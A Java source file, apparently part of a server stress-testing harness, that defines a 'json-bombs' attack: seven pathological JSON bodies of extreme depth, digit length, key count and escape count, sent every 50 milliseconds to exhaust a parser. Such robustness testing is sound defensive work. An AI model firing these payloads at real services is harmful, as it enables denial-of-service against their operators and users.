package dev.belfry.attack.strangers;

import dev.belfry.attack.stage.Requests;
import dev.belfry.attack.stage.Stage;
import dev.belfry.attack.stage.Stranger;
import java.io.IOException;
import java.time.Duration;
import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/** Bodies that cost a reader more than their length: depth, digits, names, escapes. */
final class JsonBombs implements Attack {
    private static final int COUNT = 200_000;

    private final List<byte[]> bombs = List.of(
            Requests.postJson("{\"topic\":\"x\",\"data\":" + "[".repeat(COUNT)),
            Requests.postJson("{\"topic\":\"x\",\"data\":" + "9".repeat(COUNT) + "}"),
            Requests.postJson("{\"topic\":\"x\",\"data\":1e" + "9".repeat(900) + "}"),
            Requests.postJson("{" + names() + "}"),
            Requests.postJson("{\"topic\":\"x\",\"data\":{" + names() + "}}"),
            Requests.postJson("{\"topic\":\"x\",\"message\":\"" + "\\u0041".repeat(COUNT) + "\"}"),
            Requests.postJson("[" + "{},".repeat(COUNT) + "{}]"));

    private static String names() {
        return IntStream.range(0, COUNT / 4).mapToObj(i -> "\"n" + i + "\":0").collect(Collectors.joining(","));
    }

    @Override
    public String name() {
        return "json-bombs";
    }

    @Override
    public String what() {
        return "deep, long and wide JSON, 20 bodies a second of up to 1.2 MB";
    }

    @Override
    public void run(Stage stage) throws IOException {
        int[] next = {0};
        stage.every(Duration.ofMillis(50), () -> {
            Stranger stranger = stage.crowd().open();
            stranger.send(bombs.get(next[0]++ % bombs.size()));
        });
    }
}
